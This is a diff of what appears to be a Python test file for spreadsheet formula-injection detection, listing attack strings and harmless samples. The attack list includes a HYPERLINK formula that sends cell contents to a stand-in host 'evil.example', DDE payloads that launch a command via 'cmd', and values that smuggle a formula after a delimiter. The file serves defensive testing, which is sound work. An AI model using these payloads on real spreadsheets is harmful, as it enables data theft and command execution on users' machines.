@@ -27,7 +27,7 @@ ATTACKS = [hidden + start + "1+1" for start in STARTS for hidden in HIDDEN_BEHIN
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+254712345678",
+    "+254 is Kenya",
     "-2+3",
     "rent;=1+1",
     'rent";"=1+1',
@@ -37,7 +37,7 @@ ATTACKS = [hidden + start + "1+1" for start in STARTS for hidden in HIDDEN_BEHIN
     "rent|=1+1",
     "＝HYPERLINK(1)",
 ]
-HARMLESS = ["rent 2026-11", "a=b", "O'Brien", '"quoted"', "x - y", "mary@example.com", "50% off", "caf\u00e9", ""]
+HARMLESS = ["rent 2026-11", "a=b", "O'Brien", '"quoted"', "x - y", "mary@home", "50% off", "caf\u00e9", ""]
 
 
 def computes(cell: str) -> bool:
